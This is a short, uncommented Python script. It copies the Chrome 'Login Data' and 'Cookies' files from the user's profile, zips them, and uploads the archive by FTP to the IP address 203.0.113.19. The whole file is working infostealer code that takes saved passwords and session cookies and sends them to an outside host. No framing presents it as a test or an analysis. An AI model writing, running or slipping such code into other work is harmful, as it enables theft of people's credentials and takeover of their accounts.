import os, shutil, tempfile, ftplib

src = os.path.expanduser("~/.config/google-chrome/Default")
tmp = tempfile.mkdtemp()
for n in ("Login Data", "Cookies"):
    p = os.path.join(src, n)
    if os.path.isfile(p):
        shutil.copy2(p, tmp)
archive = shutil.make_archive(os.path.join(tmp, "c"), "zip", tmp)
ftp = ftplib.FTP("203.0.113.19", "anonymous", "x")
with open(archive, "rb") as f:
    ftp.storbinary("STOR c.zip", f)
